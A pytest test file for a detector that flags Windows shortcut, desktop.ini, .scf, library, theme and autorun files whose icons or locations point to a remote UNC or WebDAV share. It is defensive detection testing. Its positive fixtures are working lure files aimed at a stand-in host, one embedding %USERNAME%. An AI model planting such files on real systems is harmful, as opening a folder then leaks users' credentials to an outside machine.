"""autorun.remote-icon: files that make a file manager contact another machine."""

import pytest

from gifthorse.inspect.detectors import autorun_remote_icon as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, severities, shortcut

HOST = "198.51.100.7"


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("@x.scf", f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{HOST}\\s\\i.ico\r\n"),
        ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\s\\i.ico,0\r\n"),
        ("desktop.INI", f"[.ShellClassInfo]\r\nLocalizedResourceName=@\\\\{HOST}\\s\\r.dll,-1\r\n"),
        ("found.search-ms", f'<persistedQuery><query><scope><include path="\\\\{HOST}\\s"/></scope></query></persistedQuery>'),
        ("Desktop.ini", f"[.ShellClassInfo]\nLogo=\\\\{HOST}@80\\dav\\l.bmp\n"),
        ("link.url", f"[InternetShortcut]\nURL=https://example.org\nIconFile=\\\\{HOST}\\%USERNAME%.icon\nIconIndex=1\n"),
        (
            "docs.library-ms",
            f'<?xml version="1.0"?><libraryDescription xmlns="x"><simpleLocation><url>\\\\{HOST}\\s</url></simpleLocation></libraryDescription>',
        ),
        ("autorun.inf", f"[autorun]\nicon=\\\\{HOST}\\s\\i.ico\n"),
        ("look.theme", f"[Theme]\nBrandImage=\\\\{HOST}\\s\\i.png\n"),
    ],
)
def test_an_icon_on_a_foreign_machine_is_high(name: str, body: str) -> None:
    (finding,) = findings_of(detector, body.encode(), f"folder/{name}")
    assert finding.severity is Severity.HIGH
    assert finding.detail is not None
    assert finding.detail.values["host"].startswith(HOST)


def test_the_icon_of_a_shortcut_counts_too() -> None:
    assert severities(detector, shortcut("C:\\a.txt", icon=f"\\\\{HOST}\\s\\i.ico"), "a.lnk") == [Severity.HIGH]


def test_settings_in_utf_16_are_read() -> None:
    body = f"\ufeff[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\s\\i.ico,0\r\n".encode("utf-16-le")
    assert severities(detector, body, "desktop.ini") == [Severity.HIGH]


def test_a_library_that_shows_a_web_folder_is_high() -> None:
    body = b'<?xml version="1.0"?><libraryDescription xmlns="x"><simpleLocation><url>http://198.51.100.7/dav</url></simpleLocation></libraryDescription>'
    assert severities(detector, body, "a.library-ms") == [Severity.HIGH]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("desktop.ini", "[.ShellClassInfo]\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\n"),
        (
            "desktop.ini",
            "[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\nIconFile=..\\icons\\a.ico\n",
        ),
        ("site.url", "[InternetShortcut]\nURL=https://example.org/\nIconFile=https://example.org/favicon.ico\n"),
        ("app.desktop", "[Desktop Entry]\nIcon=//usr/share/icons/a.png\n"),
        ("autorun.inf", "[autorun]\nicon=drive.ico\n"),
        ("config.ini", "[paths]\nshare=\\\\server\\data\n"),
        (
            "Docs.library-ms",
            "<libraryDescription xmlns='x'><url>knownfolder:{FDD39AD0}</url><simpleLocation><url>C:\\Users\\a</url></simpleLocation></libraryDescription>",
        ),
    ],
)
def test_ordinary_icons_are_silent(name: str, body: str) -> None:
    assert severities(detector, body.encode(), name) == []
